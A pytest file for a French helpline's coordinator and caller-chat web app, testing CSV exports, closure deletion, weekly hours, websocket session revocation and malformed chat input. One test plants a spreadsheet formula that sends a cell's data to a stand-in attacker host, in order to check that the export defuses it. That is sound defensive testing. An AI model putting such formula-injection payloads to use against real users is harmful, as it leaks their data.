"""The coordinators' line controls and exports, and the caller's chat socket, at their edges:
formulas in the CSV exports, closures removed from a page loaded earlier, weekly hours
(midnight, overlaps), dates at the end of the calendar, the dashboard socket of a demoted
coordinator, and odd characters or frames in the public chat."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta

import httpx
import pytest
import websockets
from fastapi import FastAPI
from redis.asyncio import Redis
from sqlmodel import select

from callers.chat.room import ChatError, clean_text
from callers.chat.service import _first_name
from callers.models import ChatMessage
from callers.schedule import Schedule, ScheduleStore
from routing.clock import PARIS, ManualClock
from routing.engine import Engine
from routing.models import Presence, VolunteerProfile
from tests.callers.helpers import volunteer_on_duty
from tests.callers.live import free_port, serve
from tests.coordination.sessions import Login, login
from volunteers import accounts
from volunteers.models import AccountStatus, Booking, Role
from web.auth import COOKIE_NAME
from web.coordination import session_watch
from web.db import Database
from web.settings import Settings

MONDAY_NOON = datetime(2026, 11, 23, 12, 0, tzinfo=PARIS)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def post(client: httpx.AsyncClient, who: Login, path: str, data: dict[str, str]
               ) -> httpx.Response:
    headers = {"accept": "application/json", "x-csrf-token": who.csrf, **who.cookies}
    return await client.post(path, data=data, headers=headers)


@pytest.fixture
async def lenient(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    """A client that sees an unhandled error as the browser does: a 500 answer."""
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
        yield c


# Reports: CSV formula injection ------------------------------------------------------------


async def test_volunteer_names_in_the_csv_export_cannot_run_as_spreadsheet_formulas(
    app: FastAPI, client: httpx.AsyncClient, coordinator: Login, clock: ManualClock
) -> None:
    """A volunteer chooses their own name at sign-up (2 to 80 characters, nothing else
    checked): the coordinators' « bénévoles » export must keep it text in a spreadsheet."""
    clock.set(MONDAY_NOON)
    evil = '=HYPERLINK("https://evil.example/?d="&B3,"Voir le détail")'
    slot = datetime(2026, 11, 23, 9, 0, tzinfo=PARIS).astimezone(UTC)
    async with app.state.runtime.db.session() as session:
        mallory = await accounts.create_account(
            session, email="mallory@exemple.fr", password="mot-de-passe-solide-42",
            name=evil, role=Role.VOLUNTEER, status=AccountStatus.APPROVED, postal_code="05000")
        session.add(Booking(account_id=mallory.id, slot_start=slot,
                            slot_end=slot + timedelta(hours=2), present_at=slot))
        await session.commit()
    reply = await client.get(
        "/coordination/rapports.csv?periode=day&date=2026-11-23&tableau=benevoles",
        headers=coordinator.cookies)
    assert reply.status_code == 200, reply.text
    rows = list(csv.reader(io.StringIO(reply.text.lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), rows  # the volunteer is in the export
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [], f"cells a spreadsheet runs as formulas: {dangerous}"


# Closures: removed by their position in a list that may have changed -----------------------


async def test_removing_a_closure_from_a_page_loaded_earlier_removes_that_closure(
    app: FastAPI, client: httpx.AsyncClient, coordinator: Login, clock: ManualClock,
    redis: Redis, app_settings: Settings,
) -> None:
    """The « Supprimer » button names a closure by its index in the stored list, and adding
    a closure re-sorts that list: a page loaded before another coordinator (or another tab)
    added an earlier closure must not delete another one. The form also sends the closure's
    start and end, and a closure that no longer matches is refused."""
    clock.set(MONDAY_NOON)
    for start, end, message in [
        ("2026-12-10T09:00", "2026-12-10T18:00", "Formation des bénévoles"),
        ("2026-12-20T09:00", "2026-12-20T18:00", "Grève"),
    ]:
        r = await post(client, coordinator, "/coordination/fermetures",
                       {"debut": start, "fin": end, "message": message})
        assert r.status_code == 200, r.text
    page = await client.get("/coordination/horaires", headers=coordinator.cookies)
    remove_training, fields = removal_form(page.text, "Formation des bénévoles")
    # Meanwhile, a colleague closes the line for an earlier day.
    r = await post(client, coordinator, "/coordination/fermetures",
                   {"debut": "2026-12-01T09:00", "fin": "2026-12-01T18:00",
                    "message": "Neige"})
    assert r.status_code == 200, r.text
    store = ScheduleStore(redis, app_settings.line)
    # The first coordinator clicks « Supprimer » next to the training day: refused.
    r = await post(client, coordinator, remove_training, fields)
    assert r.status_code == 400, r.text
    assert r.json()["message"] == (
        "Cette fermeture a changé ou n'existe plus. Rechargez la page.")
    assert len((await store.get()).closures) == 3
    # Once the page is reloaded, the same button removes the training day, and it alone.
    page = await client.get("/coordination/horaires", headers=coordinator.cookies)
    r = await post(client, coordinator, *removal_form(page.text, "Formation des bénévoles"))
    assert r.status_code == 200, r.text
    assert [c.message for c in (await store.get()).closures] == ["Neige", "Grève"]


def removal_form(page: str, message: str) -> tuple[str, dict[str, str]]:
    """The « Supprimer » form of the closure with this message: its URL and hidden fields."""
    found = re.search(
        rf"<td>{re.escape(message)}</td>\s*<td><form method=\"post\" "
        r"action=\"(/coordination/fermetures/\d+/supprimer)\"(.*?)</form>", page, re.S)
    assert found, page
    fields = dict(re.findall(r'<input type="hidden" name="(debut|fin)" value="([^"]+)">',
                             found.group(2)))
    assert set(fields) == {"debut", "fin"}, found.group(0)
    return found.group(1), fields


# Weekly hours ------------------------------------------------------------------------------


async def test_hours_until_midnight_are_refused_in_french(
    app: FastAPI, client: httpx.AsyncClient, coordinator: Login, redis: Redis,
    app_settings: Settings,
) -> None:
    """The schedule compares clock times of one day, where 24:00 does not exist: the form
    refuses it and says to write 23:59 (not Python's English « hour must be in 0..23 »)."""
    store = ScheduleStore(redis, app_settings.line)
    before = await store.get()
    r = await post(client, coordinator, "/coordination/horaires",
                   {"jour_4": "18:00-24:00", **{f"jour_{d}": "09:00-18:00" for d in range(4)}})
    assert r.status_code == 400, r.text
    assert r.json()["message"] == (
        "Heure invalide : « 24:00 ». Pour ouvrir jusqu'à minuit, écrivez 23:59.")
    assert await store.get() == before
    r = await post(client, coordinator, "/coordination/horaires", {"jour_4": "18:00-23:59"})
    assert r.status_code == 200, r.text
    assert (await store.get()).weekly == {4: [("18:00", "23:59")]}


async def test_overlapping_ranges_in_the_weekly_hours_are_refused(
    app: FastAPI, client: httpx.AsyncClient, coordinator: Login, redis: Redis,
    app_settings: Settings,
) -> None:
    """« 09:00-13:00, 12:00-18:00 » (a typo for 14:00) would show volunteers 12 h–13 h twice,
    and 11 h–13 h and 12 h–14 h on top of each other."""
    store = ScheduleStore(redis, app_settings.line)
    before = await store.get()
    r = await post(client, coordinator, "/coordination/horaires",
                   {"jour_0": "09:00-13:00, 12:00-18:00"})
    assert r.status_code == 400, r.text
    assert r.json()["message"] == (
        "Les horaires du lundi se chevauchent : 09:00–13:00 et 12:00–18:00.")
    assert await store.get() == before


async def test_hours_saved_before_overlaps_were_refused_read_merged(
    redis: Redis, line: str
) -> None:
    """A schedule stored by an older version with overlapping ranges must not break every
    read of the line's status: it reads as the hours it opens."""
    raw = '{"weekly": {"0": [["12:00", "18:00"], ["09:00", "13:00"]]}}'
    with pytest.raises(ValueError, match="se chevauchent"):
        Schedule.model_validate_json(raw)
    store = ScheduleStore(redis, line)
    await redis.set(store.key, raw)
    assert (await store.get()).weekly == {0: [("09:00", "18:00")]}


# Dates out of range: an error page, not a crash ----------------------------------------------


@pytest.mark.parametrize("path", [
    "/coordination/rapports?periode=week&date=9999-12-31",
    "/coordination/rapports?periode=day&date=9999-12-31",
    "/coordination/creneaux?semaine=9999-12-31",
])
async def test_a_date_at_the_end_of_the_calendar_gets_a_clear_answer(
    app: FastAPI, lenient: httpx.AsyncClient, coordinator: Login, path: str
) -> None:
    reply = await lenient.get(path, headers=coordinator.cookies)
    assert reply.status_code in (200, 400), (path, reply.status_code, reply.text[:200])


# Live server: the dashboard socket and the caller's chat socket ------------------------------

@pytest.fixture
def live_settings(app_settings: Settings) -> Settings:
    port = free_port()
    return app_settings.model_copy(update={"port": port,
                                           "public_base_url": f"http://127.0.0.1:{port}"})


@pytest.fixture
def live(live_settings: Settings, clock: ManualClock, engine: Engine) -> Iterator[str]:
    """The whole app on a free port (its own loop and lifespan); stops before the engine
    fixture wipes the line's keys."""
    with serve(live_settings, clock, live_settings.port) as base:
        yield base


@pytest.fixture
async def live_db(live_settings: Settings) -> AsyncIterator[Database]:
    db = Database(live_settings)
    yield db
    await db.dispose()


async def test_a_coordinator_demoted_to_volunteer_stops_receiving_the_live_dashboard(
    live: str, live_settings: Settings, live_db: Database, engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A coordinator whose role is taken away (or whose account is disabled) must stop
    receiving the live queue and every volunteer's state even if the tab stays open: the
    process checks its dashboards' sessions every CHECK_EVERY_S (5 s; 0.2 s here) and the
    socket closes (4403), as a console does."""
    monkeypatch.setattr(session_watch, "CHECK_EVERY_S", 0.2)
    claire = await login(live_db, live_settings.secret_key, "Claire Coord", Role.COORDINATOR)
    headers = {"cookie": f"{COOKIE_NAME}={claire.cookie}", "origin": live}
    ws_url = live.replace("http", "ws") + "/coordination/ws"
    async with websockets.connect(ws_url, additional_headers=headers) as ws:
        first = json.loads(await asyncio.wait_for(ws.recv(), 10))
        assert "full" in first
        async with live_db.session() as session:
            await accounts.set_role(session, claire.account.id, Role.VOLUNTEER)
        # Still allowed? The page itself is refused to her now.
        async with httpx.AsyncClient(base_url=live) as http:
            page = await http.get("/coordination/etat", headers={"cookie": headers["cookie"]})
        assert page.status_code in (401, 403)
        await asyncio.sleep(1)
        await engine.log_in(VolunteerProfile("zoe", "05", name="Zoé Nouvelle"))
        await engine.set_presence("zoe", Presence.AVAILABLE)
        with pytest.raises(websockets.exceptions.ConnectionClosed):
            while True:  # a TimeoutError here: the socket stayed open
                frame = await asyncio.wait_for(ws.recv(), 12)
                assert "Zoé Nouvelle" not in frame, (
                    "a demoted coordinator still receives the live dashboard (volunteers, queue)")
        assert ws.close_code == 4403


async def test_open_dashboards_sessions_are_checked_together(
    live_settings: Settings, live_db: Database
) -> None:
    """One query checks every open dashboard of a process: the demoted and the disabled
    coordinators' dashboards end, the others go on, and a closed one is no longer checked."""
    people = {
        name: await login(live_db, live_settings.secret_key, name, Role.COORDINATOR)
        for name in ("Claire Coord", "Denis Coord", "Emma Coord")
    }
    watch = session_watch.DashboardSessions(live_db.session)
    ended = {
        name: watch.watch(who.account.id, who.account.session_version)
        for name, who in people.items()
    }
    assert await watch.check() == 0
    async with live_db.session() as session:
        await accounts.set_role(session, people["Claire Coord"].account.id, Role.VOLUNTEER)
        await accounts.disable(session, people["Denis Coord"].account.id)
    assert await watch.check() == 2
    assert {name for name, event in ended.items() if event.is_set()} == {
        "Claire Coord", "Denis Coord"}
    watch.forget(ended["Claire Coord"])
    watch.forget(ended["Denis Coord"])
    assert await watch.check() == 0 and not ended["Emma Coord"].is_set()
    await watch.close()


async def _start_chat(live: str) -> str:
    async with httpx.AsyncClient(base_url=live) as http:
        reply = await http.post("/aide/api/start", json={
            "topic": "autre", "postal_code": "05000", "first_name": "Lucie"})
    assert reply.status_code == 200, reply.text
    return reply.json()["token"]


async def _until(ws, kind: str, timeout_s: float = 8) -> list[dict]:  # noqa: ANN001
    """Frames up to and including the first of this type."""
    loop = asyncio.get_running_loop()
    deadline, seen = loop.time() + timeout_s, []
    while True:
        frame = json.loads(await asyncio.wait_for(ws.recv(), deadline - loop.time()))
        seen.append(frame)
        if frame["type"] == kind:
            return seen


async def test_a_nul_character_in_a_chat_message_does_not_lose_the_transcript(
    live: str, live_db: Database, engine: Engine
) -> None:
    """A caller's message is any text up to 2,000 characters: a NUL (pasted from a PDF, or a
    broken keyboard app) kept in the room would make PostgreSQL refuse the whole transcript
    (« A string literal cannot contain NUL characters ») and the caller's « Terminer » would
    get no answer. Control characters are dropped before the message is stored."""
    if not str(live_db.engine.url).startswith("postgresql"):
        pytest.skip("PostgreSQL only (set DATABASE_URL): SQLite stores NUL characters")
    await volunteer_on_duty(engine, "anne", "05")
    token = await _start_chat(live)
    task_id = (await engine.live_tasks())[0].id
    await engine.accept("anne", task_id)
    async with websockets.connect(live.replace("http", "ws") + "/aide/ws?token=" + token) as ws:
        await _until(ws, "hello")
        await ws.send(json.dumps({"type": "send", "text": "Mon numéro : 12\u000034", "mid": "m1"}))
        await ws.send(json.dumps({"type": "send", "text": "Merci beaucoup", "mid": "m2"}))
        await ws.send(json.dumps({"type": "end"}))
        try:
            frames = await _until(ws, "ended")
        except websockets.exceptions.ConnectionClosed:
            frames = []
    async with live_db.session() as session:
        rows = list(await session.exec(select(ChatMessage).where(ChatMessage.task_id == task_id)))
    texts = [r.text for r in rows]
    assert "Merci beaucoup" in texts, f"transcript lost: {texts}"
    assert "Mon numéro : 1234" in texts
    assert frames and frames[-1]["type"] == "ended"


def test_chat_text_and_first_names_lose_their_control_characters() -> None:
    """What PostgreSQL refuses (NUL) or a transcript cannot show goes before storing (the
    test above shows the whole chat on PostgreSQL); newlines and tabs stay."""
    assert clean_text("  Mon numéro :\x00 12\x1b34\r\nmerci\tbeaucoup\u0085 ") == (
        "Mon numéro : 1234\nmerci\tbeaucoup")
    assert clean_text("ligne 1\rligne 2\ud800") == "ligne 1\nligne 2"
    with pytest.raises(ChatError):
        clean_text("\x00\x07")  # nothing left: an empty message
    assert _first_name(" Lu\x00cie\n ") == "Lucie"


@pytest.mark.parametrize("frame", [
    pytest.param(b'{"type": "send", "text": "Bonjour"}', id="binary-frame"),
    pytest.param("[" * 5000, id="deeply-nested-json"),
])
async def test_a_malformed_chat_frame_gets_the_french_error_and_the_chat_goes_on(
    live: str, engine: Engine, frame: bytes | str
) -> None:
    """A binary frame (the page sends text only) or JSON nested deeper than Python's
    recursion limit gets « Ce message n'a pas pu être lu. », like any unreadable frame,
    instead of crashing the socket."""
    await volunteer_on_duty(engine, "anne", "05", Presence.PAUSED)
    token = await _start_chat(live)
    async with websockets.connect(live.replace("http", "ws") + "/aide/ws?token=" + token) as ws:
        await _until(ws, "hello")
        await ws.send(frame)
        try:
            error = (await _until(ws, "error"))[-1]
        except websockets.exceptions.ConnectionClosed as closed:
            pytest.fail(f"the chat socket was cut ({closed}) instead of a French error")
        assert "pas pu être lu" in error["message"]
        await ws.send(json.dumps({"type": "send", "text": "Toujours là ?", "mid": "m1"}))
        assert (await _until(ws, "messages"))[-1]["messages"][0]["text"] == "Toujours là ?"
